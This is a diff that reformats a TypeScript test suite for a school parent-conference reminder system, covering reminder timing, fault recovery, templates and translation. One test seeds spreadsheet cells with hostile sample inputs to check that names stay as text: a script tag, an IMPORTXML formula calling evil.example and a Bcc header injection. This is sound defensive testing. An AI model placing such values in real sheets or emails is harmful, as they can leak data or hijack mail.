@@ -4,7 +4,13 @@
  * the daily quota stops a run cleanly and the next day continues; hostile names stay text.
  */
 import { openSchool } from '../../preview/school';
-import type { JobProgress, Overview, Result, TemplatePreview, TemplateView } from '../../src/shared/api';
+import type {
+  JobProgress,
+  Overview,
+  Result,
+  TemplatePreview,
+  TemplateView,
+} from '../../src/shared/api';
 
 type School = ReturnType<typeof openSchool>;
 
@@ -19,7 +25,8 @@ const EST = (day: string, hhmm: string) => Date.parse(`${day}T${hhmm}:00-05:00`)
 /** A school with its Schedule built: conferences on 2026-11-17 from 3 PM (EST). */
 function scheduledSchool(students = 75): School {
   const school = openSchool({ students, days: ['2026-11-17'] });
-  for (let i = 0; i < 10; i++) if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['setup'])).done) break;
+  for (let i = 0; i < 10; i++)
+    if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['setup'])).done) break;
   ok<JobProgress>(school.bundle.callFromClient('runJob', ['schedule']));
   return school;
 }
@@ -37,7 +44,8 @@ function runReminders(s: School): JobProgress {
   return ok<JobProgress>(s.bundle.callFromClient('runJob', ['reminders']));
 }
 
-const key = (m: { to: string[]; subject: string; body: string }) => `${[...m.to].sort().join(',')}|${m.subject}|${m.body}`;
+const key = (m: { to: string[]; subject: string; body: string }) =>
+  `${[...m.to].sort().join(',')}|${m.subject}|${m.body}`;
 
 describe('reminders', () => {
   it('sends each family one 48-hour reminder, then one 2-hour reminder, from the hourly trigger; cancelled and declined get none', () => {
@@ -54,21 +62,48 @@ describe('reminders', () => {
     const declinedRow = rows.indexOf(singles[1]!) + 2;
     sheet.patch(cancelledRow, status + 1, { v: 'cancelled' });
     sheet.patch(declinedRow, status + 1, { v: 'declined' });
-    const quiet = new Set(String(singles[0]![col(s, 'Emails')]).split(';').concat(String(singles[1]![col(s, 'Emails')]).split(';')).map((e) => e.trim()));
+    const quiet = new Set(
+      String(singles[0]![col(s, 'Emails')])
+        .split(';')
+        .concat(String(singles[1]![col(s, 'Emails')]).split(';'))
+        .map((e) => e.trim()),
+    );
 
-    const view = ok<{ settings: Record<string, unknown> }>(s.bundle.callFromClient('getSettings', []));
-    ok(s.bundle.callFromClient('saveSettings', [{ ...view.settings, senderName: 'Lincoln Conferences', replyTo: 'office@lincoln.school.example' }]));
+    const view = ok<{ settings: Record<string, unknown> }>(
+      s.bundle.callFromClient('getSettings', []),
+    );
+    ok(
+      s.bundle.callFromClient('saveSettings', [
+        {
+          ...view.settings,
+          senderName: 'Lincoln Conferences',
+          replyTo: 'office@lincoln.school.example',
+        },
+      ]),
+    );
     expect(ok<boolean>(s.bundle.callFromClient('setReminders', [true]))).toBe(true);
     expect(ok<boolean>(s.bundle.callFromClient('setReminders', [true]))).toBe(true);
-    expect(s.emulator.triggers.triggers.filter((t) => t.handler === 'sendDueReminders')).toHaveLength(1);
+    expect(
+      s.emulator.triggers.triggers.filter((t) => t.handler === 'sendDueReminders'),
+    ).toHaveLength(1);
 
     s.emulator.triggers.advanceTo(EST('2026-11-18', '00:00'));
-    const families = new Set(rows.filter((r) => !['cancelled', 'declined'].includes(String(r[status]))).map((r) => String(r[family])));
+    const families = new Set(
+      rows
+        .filter((r) => !['cancelled', 'declined'].includes(String(r[status])))
+        .map((r) => String(r[family])),
+    );
     const sent = s.emulator.mail.sent;
     const firstWave = sent.filter((m) => Date.parse(m.sentAt) < EST('2026-11-17', '12:00'));
     const secondWave = sent.filter((m) => Date.parse(m.sentAt) >= EST('2026-11-17', '12:00'));
-    const sent48 = new Set(scheduleRows(s).rows.filter((r) => /\b48h\b/.test(String(r[col(s, 'Reminders Sent')]))).map((r) => String(r[family])));
-    expect(firstWave).toHaveLength(families.size - 0 - [...families].filter((f) => !sent48.has(f)).length);
+    const sent48 = new Set(
+      scheduleRows(s)
+        .rows.filter((r) => /\b48h\b/.test(String(r[col(s, 'Reminders Sent')])))
+        .map((r) => String(r[family])),
+    );
+    expect(firstWave).toHaveLength(
+      families.size - 0 - [...families].filter((f) => !sent48.has(f)).length,
+    );
     expect(firstWave.length).toBeGreaterThan(30);
     expect(secondWave).toHaveLength(firstWave.length);
     expect(new Set(firstWave.map(key)).size).toBe(firstWave.length);
@@ -80,8 +115,12 @@ describe('reminders', () => {
       for (const to of m.to) expect(quiet.has(to)).toBe(false);
     }
     // Each 48-hour reminder went out in its window (within 48 hours before), each 2-hour one within 2 hours.
-    const marks = scheduleRows(s).rows.map((r) => String(r[col(s, 'Reminders Sent')])).filter(Boolean);
-    expect(marks.every((m) => /^48h 2026-11-1[56] \d\d:\d\d; 2h 2026-11-17 \d\d:\d\d$/.test(m))).toBe(true);
+    const marks = scheduleRows(s)
+      .rows.map((r) => String(r[col(s, 'Reminders Sent')]))
+      .filter(Boolean);
+    expect(
+      marks.every((m) => /^48h 2026-11-1[56] \d\d:\d\d; 2h 2026-11-17 \d\d:\d\d$/.test(m)),
+    ).toBe(true);
     expect(s.emulator.triggers.firings.filter((f) => f.error)).toEqual([]);
 
     expect(ok<boolean>(s.bundle.callFromClient('setReminders', [false]))).toBe(false);
@@ -96,11 +135,17 @@ describe('reminders', () => {
     const emailsOf = new Map<string, Set<string>>();
     for (const r of rows) {
       const set = emailsOf.get(String(r[col(s, 'Family ID')])) ?? new Set();
-      for (const e of String(r[col(s, 'Emails')]).split(';').map((x) => x.trim().toLowerCase()).filter(Boolean)) set.add(e);
+      for (const e of String(r[col(s, 'Emails')])
+        .split(';')
+        .map((x) => x.trim().toLowerCase())
+        .filter(Boolean))
+        set.add(e);
       emailsOf.set(String(r[col(s, 'Family ID')]), set);
     }
     const sent = s.emulator.mail.sent;
-    expect(sent.length).toBe(new Set(rows.filter((r) => r[col(s, 'Emails')]).map((r) => r[col(s, 'Family ID')])).size);
+    expect(sent.length).toBe(
+      new Set(rows.filter((r) => r[col(s, 'Emails')]).map((r) => r[col(s, 'Family ID')])).size,
+    );
     for (const m of sent) {
       const owners = [...emailsOf].filter(([, set]) => m.to.some((t) => set.has(t)));
       expect(owners).toHaveLength(1);
@@ -108,8 +153,14 @@ describe('reminders', () => {
     }
     // A family with two conferences that day: both students in one message.
     const byFamily = new Map<string, unknown[][]>();
-    for (const r of rows) byFamily.set(String(r[col(s, 'Family ID')]), [...(byFamily.get(String(r[col(s, 'Family ID')])) ?? []), r]);
-    const siblings = [...byFamily.values()].find((list) => list.length > 1 && list[0]![col(s, 'Emails')]);
+    for (const r of rows)
+      byFamily.set(String(r[col(s, 'Family ID')]), [
+        ...(byFamily.get(String(r[col(s, 'Family ID')])) ?? []),
+        r,
+      ]);
+    const siblings = [...byFamily.values()].find(
+      (list) => list.length > 1 && list[0]![col(s, 'Emails')],
+    );
     expect(siblings).toBeDefined();
     const to = String(siblings![0]![col(s, 'Emails')]).split(';')[0]!.trim().toLowerCase();
     const mine = s.emulator.mail.to(to);
@@ -120,7 +171,11 @@ describe('reminders', () => {
   const RUN_AT = EST('2026-11-16', '12:00');
 
   /** An uninterrupted 50-family run (its outbox and how many service calls it makes), then one run per fault. */
-  function faultRuns(kind: 'throw' | 'kill', stride: number, check: (got: string[], expected: string[], k: number, s: School) => void): void {
+  function faultRuns(
+    kind: 'throw' | 'kill',
+    stride: number,
+    check: (got: string[], expected: string[], k: number, s: School) => void,
+  ): void {
     const clean = scheduledSchool(75);
     clean.emulator.ws.clock.set(RUN_AT);
     const before = clean.emulator.ws.callCount;
@@ -145,7 +200,10 @@ describe('reminders', () => {
 
   it('interrupted at any service call of a 50-family run, a re-run sends exactly what an uninterrupted run sends', () => {
     faultRuns('throw', 1, (got, expected, k) => {
-      if (JSON.stringify(got) !== JSON.stringify(expected)) throw new Error(`interrupted at call ${k}: ${got.length} messages, expected ${expected.length}`);
+      if (JSON.stringify(got) !== JSON.stringify(expected))
+        throw new Error(
+          `interrupted at call ${k}: ${got.length} messages, expected ${expected.length}`,
+        );
     });
   }, 300_000);
 
@@ -155,7 +213,9 @@ describe('reminders', () => {
       for (const m of got) expect(expected).toContain(m);
       const missing = expected.length - got.length;
       expect(missing).toBeLessThanOrEqual(1);
-      const marked = scheduleRows(s).rows.filter((r) => String(r[col(s, 'Reminders Sent')]).includes('unconfirmed')).length;
+      const marked = scheduleRows(s).rows.filter((r) =>
+        String(r[col(s, 'Reminders Sent')]).includes('unconfirmed'),
+      ).length;
       if (missing > 0) expect(marked).toBeGreaterThan(0);
     });
   }, 120_000);
@@ -186,20 +246,35 @@ describe('reminders', () => {
 
   it('on a day Google is forty times slower, the hourly trigger still reminds every family in time, each run under six minutes', () => {
     const school = openSchool({ students: 40, days: ['2026-11-17'], latencyFactor: 40 });
-    for (let i = 0; i < 20; i++) if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['setup'])).done) break;
-    for (let i = 0; i < 20; i++) if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['schedule'])).done) break;
+    for (let i = 0; i < 20; i++)
+      if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['setup'])).done) break;
+    for (let i = 0; i < 20; i++)
+      if (ok<JobProgress>(school.bundle.callFromClient('runJob', ['schedule'])).done) break;
     ok(school.bundle.callFromClient('setReminders', [true]));
     const before = school.emulator.ws.reports.length;
     school.emulator.triggers.advanceTo(EST('2026-11-18', '00:00'));
-    const runs = school.emulator.ws.reports.slice(before).filter((r) => r.entry.includes('sendDueReminders'));
+    const runs = school.emulator.ws.reports
+      .slice(before)
+      .filter((r) => r.entry.includes('sendDueReminders'));
     expect(runs.every((r) => !r.terminated && r.elapsedMs < 6 * 60_000)).toBe(true);
-    const families = new Set(scheduleRows(school).rows.map((r) => String(r[col(school, 'Family ID')])));
-    const reminded = (mark: RegExp) => new Set(scheduleRows(school).rows.filter((r) => mark.test(String(r[col(school, 'Reminders Sent')]))).map((r) => String(r[col(school, 'Family ID')])));
+    const families = new Set(
+      scheduleRows(school).rows.map((r) => String(r[col(school, 'Family ID')])),
+    );
+    const reminded = (mark: RegExp) =>
+      new Set(
+        scheduleRows(school)
+          .rows.filter((r) => mark.test(String(r[col(school, 'Reminders Sent')])))
+          .map((r) => String(r[col(school, 'Family ID')])),
+      );
     expect(reminded(/\b48h\b/)).toEqual(families);
     expect(reminded(/\b2h\b/)).toEqual(families);
     // Two messages per family (one per reminder time), none twice.
     const perFamily = new Map<string, number>();
-    for (const m of school.emulator.mail.sent) perFamily.set([...m.to].sort().join(','), (perFamily.get([...m.to].sort().join(',')) ?? 0) + 1);
+    for (const m of school.emulator.mail.sent)
+      perFamily.set(
+        [...m.to].sort().join(','),
+        (perFamily.get([...m.to].sort().join(',')) ?? 0) + 1,
+      );
     expect([...perFamily.values()].every((n) => n === 2)).toBe(true);
   });
 
@@ -207,7 +282,9 @@ describe('reminders', () => {
     const s = scheduledSchool(20);
     const sheet = s.emulator.spreadsheet.sheetByName('Schedule')!;
     sheet.patch(2, col(s, 'Family') + 1, { v: '<script>alert(1)</script>' });
-    sheet.patch(2, col(s, 'Students') + 1, { v: '=IMPORTXML("http://evil.example","//a")\nBcc: x@evil.example' });
+    sheet.patch(2, col(s, 'Students') + 1, {
+      v: '=IMPORTXML("http://evil.example","//a")\nBcc: x@evil.example',
+    });
     sheet.patch(2, col(s, 'Teacher') + 1, { v: 'Ms. <b>Bold</b>' });
     s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
     runReminders(s);
@@ -234,7 +311,9 @@ describe('reminders', () => {
     expect(count('by email') + count('by letter')).toBe(count('families'));
     expect(step.headline).toContain('Hourly reminders are off');
     ok(s.bundle.callFromClient('setReminders', [true]));
-    const after = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'reminders')!;
+    const after = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
+      (x) => x.id === 'reminders',
+    )!;
     expect(after.headline).toContain('Hourly reminders are on');
   });
 });
@@ -246,16 +325,30 @@ describe('templates', () => {
     expect(view.source).toBe('built-in');
     const family = view.families[0]!;
     expect(family.language).toBe('es');
-    const template = { subject: 'Recordatorio para {{family}}', body: 'Hola {{family}}, {{date}} {{time}} con {{teacher}}. {{oops}}' };
-    const preview = ok<TemplatePreview>(s.bundle.callFromClient('previewTemplate', ['reminder', 'es', template, family.conferenceId]));
+    const template = {
+      subject: 'Recordatorio para {{family}}',
+      body: 'Hola {{family}}, {{date}} {{time}} con {{teacher}}. {{oops}}',
+    };
+    const preview = ok<TemplatePreview>(
+      s.bundle.callFromClient('previewTemplate', ['reminder', 'es', template, family.conferenceId]),
+    );
     expect(preview.unknown).toEqual(['oops']);
     expect(preview.text).toMatch(/(lunes|martes|miércoles) \d+ de noviembre/);
-    const refused = s.bundle.callFromClient('saveTemplate', ['reminder', 'es', template]) as Result<unknown>;
+    const refused = s.bundle.callFromClient('saveTemplate', [
+      'reminder',
+      'es',
+      template,
+    ]) as Result<unknown>;
     expect(refused.ok).toBe(false);
     if (!refused.ok) expect(refused.error.message).toContain('{{oops}}');
-    const good = { subject: 'Recordatorio para {{family}}', body: 'Hola {{family}}: {{date}}, {{time}}, {{where}}.' };
+    const good = {
+      subject: 'Recordatorio para {{family}}',
+      body: 'Hola {{family}}: {{date}}, {{time}}, {{where}}.',
+    };
     ok(s.bundle.callFromClient('saveTemplate', ['reminder', 'es', good]));
-    expect(ok<TemplateView>(s.bundle.callFromClient('getTemplate', ['reminder', 'es'])).source).toBe('edited');
+    expect(
+      ok<TemplateView>(s.bundle.callFromClient('getTemplate', ['reminder', 'es'])).source,
+    ).toBe('edited');
     s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
     runReminders(s);
     const spanish = s.emulator.mail.sent.filter((m) => m.subject.startsWith('Recordatorio para'));
@@ -265,24 +358,43 @@ describe('templates', () => {
 
   it('translates for another language once, keeping the fields, and keeps the translation', () => {
     const s = scheduledSchool(30);
-    s.emulator.spreadsheet.sheetByName('Schedule')!.patch(2, col(s, 'Language') + 1, { v: 'Vietnamese' });
-    s.emulator.spreadsheet.sheetByName('Schedule')!.patch(2, col(s, 'Interpreter') + 1, { v: 'Yes' });
+    s.emulator.spreadsheet
+      .sheetByName('Schedule')!
+      .patch(2, col(s, 'Language') + 1, { v: 'Vietnamese' });
+    s.emulator.spreadsheet
+      .sheetByName('Schedule')!
+      .patch(2, col(s, 'Interpreter') + 1, { v: 'Yes' });
     s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
     runReminders(s);
-    const to = String(scheduleRows(s).rows[0]![col(s, 'Emails')]).split(';')[0]!.trim().toLowerCase();
+    const to = String(scheduleRows(s).rows[0]![col(s, 'Emails')])
+      .split(';')[0]!
+      .trim()
+      .toLowerCase();
     const [m] = s.emulator.mail.to(to);
     expect(m!.subject).toContain('[vi]');
     expect(m!.subject).not.toContain('{{');
     expect(m!.body).toMatch(/ngày \d+ tháng 11/);
     expect(m!.body).toContain('[vi] An interpreter will be there for you.');
-    const translations = s.emulator.ws.reports.flatMap((r) => Object.entries(r.callsByMethod)).filter(([k]) => k.startsWith('LanguageApp')).reduce((n, [, c]) => n + c, 0);
-    const others = new Set(scheduleRows(s).rows.map((r) => String(r[col(s, 'Language')])).filter((l) => l && !/^(english|spanish|en|es)$/i.test(l)));
+    const translations = s.emulator.ws.reports
+      .flatMap((r) => Object.entries(r.callsByMethod))
+      .filter(([k]) => k.startsWith('LanguageApp'))
+      .reduce((n, [, c]) => n + c, 0);
+    const others = new Set(
+      scheduleRows(s)
+        .rows.map((r) => String(r[col(s, 'Language')]))
+        .filter((l) => l && !/^(english|spanish|en|es)$/i.test(l)),
+    );
     expect(others.has('Vietnamese')).toBe(true);
     expect(translations).toBe(11 * others.size); // subject and body of five kinds and the interpreter sentence, once per language
-    expect(ok<TemplateView>(s.bundle.callFromClient('getTemplate', ['reminder', 'vi'])).template.subject).toContain('[vi]');
+    expect(
+      ok<TemplateView>(s.bundle.callFromClient('getTemplate', ['reminder', 'vi'])).template.subject,
+    ).toContain('[vi]');
     s.emulator.ws.clock.set(EST('2026-11-17', '14:00'));
     runReminders(s);
-    const again = s.emulator.ws.reports.flatMap((r) => Object.entries(r.callsByMethod)).filter(([k]) => k.startsWith('LanguageApp')).reduce((n, [, c]) => n + c, 0);
+    const again = s.emulator.ws.reports
+      .flatMap((r) => Object.entries(r.callsByMethod))
+      .filter(([k]) => k.startsWith('LanguageApp'))
+      .reduce((n, [, c]) => n + c, 0);
     expect(again).toBe(translations);
   });
 });
@@ -290,11 +402,17 @@ describe('templates', () => {
 describe('a Schedule without its Reminders Sent column', () => {
   it('sends nothing and says which column to add back', () => {
     const s = scheduledSchool(20);
-    s.emulator.spreadsheet.sheetByName('Schedule')!.patch(1, col(s, 'Reminders Sent') + 1, { v: 'Sent?' });
+    s.emulator.spreadsheet
+      .sheetByName('Schedule')!
+      .patch(1, col(s, 'Reminders Sent') + 1, { v: 'Sent?' });
     s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
     const r = s.bundle.callFromClient('runJob', ['reminders']) as Result<JobProgress>;
     expect(r.ok).toBe(false);
-    if (!r.ok) expect(r.error).toMatchObject({ message: expect.stringContaining('"Reminders Sent" column'), where: { sheet: 'Schedule', row: 1 } });
+    if (!r.ok)
+      expect(r.error).toMatchObject({
+        message: expect.stringContaining('"Reminders Sent" column'),
+        where: { sheet: 'Schedule', row: 1 },
+      });
     expect(s.emulator.mail.sent).toEqual([]);
   });
 });
@@ -302,11 +420,18 @@ describe('a Schedule without its Reminders Sent column', () => {
 describe('a language the translator refuses', () => {
   it('falls back to English for that family and says so', () => {
     const s = scheduledSchool(20);
-    s.emulator.spreadsheet.sheetByName('Schedule')!.patch(2, col(s, 'Language') + 1, { v: 'Tigrinya' }); // the emulated LanguageApp rejects "ti"
+    s.emulator.spreadsheet
+      .sheetByName('Schedule')!
+      .patch(2, col(s, 'Language') + 1, { v: 'Tigrinya' }); // the emulated LanguageApp rejects "ti"
     s.emulator.ws.clock.set(EST('2026-11-16', '12:00'));
     const progress = runReminders(s);
-    expect(progress.problems.map((p) => p.message).join(' ')).toContain('could not be translated into "ti"');
-    const to = String(scheduleRows(s).rows[0]![col(s, 'Emails')]).split(';')[0]!.trim().toLowerCase();
+    expect(progress.problems.map((p) => p.message).join(' ')).toContain(
+      'could not be translated into "ti"',
+    );
+    const to = String(scheduleRows(s).rows[0]![col(s, 'Emails')])
+      .split(';')[0]!
+      .trim()
+      .toLowerCase();
     expect(s.emulator.mail.to(to)[0]!.subject).toMatch(/^Reminder: /);
   });
 });
@@ -317,7 +442,9 @@ describe('no one left out', () => {
     const sheet = s.emulator.spreadsheet.sheetByName('Schedule')!;
     const { rows } = scheduleRows(s);
     const familyCol = col(s, 'Family ID');
-    const spanish = rows.findIndex((r) => rows.filter((x) => x[familyCol] === r[familyCol]).length === 1);
+    const spanish = rows.findIndex(
+      (r) => rows.filter((x) => x[familyCol] === r[familyCol]).length === 1,
+    );
     expect(spanish).toBeGreaterThanOrEqual(0);
     sheet.patch(spanish + 2, col(s, 'Language') + 1, { v: 'Spanish' });
     // The school adds a Phone column to the Roster, with this family's number.
@@ -341,10 +468,16 @@ describe('no one left out', () => {
     expect(s.emulator.spreadsheet.sheetByName('Letters')!.cell(1, 1)!.f).toBeUndefined();
     expect(text).toContain('Phone list: families without email');
     expect(text).toContain('555-0142');
-    const step = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find((x) => x.id === 'reminders')!;
+    const step = ok<Overview>(s.bundle.callFromClient('getOverview', [])).steps.find(
+      (x) => x.id === 'reminders',
+    )!;
     expect(step.counts.find((c) => c.label === 'by letter')!.value).toBe(1);
     // Nothing changed: the Letters sheet is not written again.
     runReminders(s);
-    expect(Object.keys(s.emulator.ws.reports.at(-1)!.callsByMethod).filter((m) => /setValues|clear/.test(m))).toEqual([]);
+    expect(
+      Object.keys(s.emulator.ws.reports.at(-1)!.callsByMethod).filter((m) =>
+        /setValues|clear/.test(m),
+      ),
+    ).toEqual([]);
   });
 });
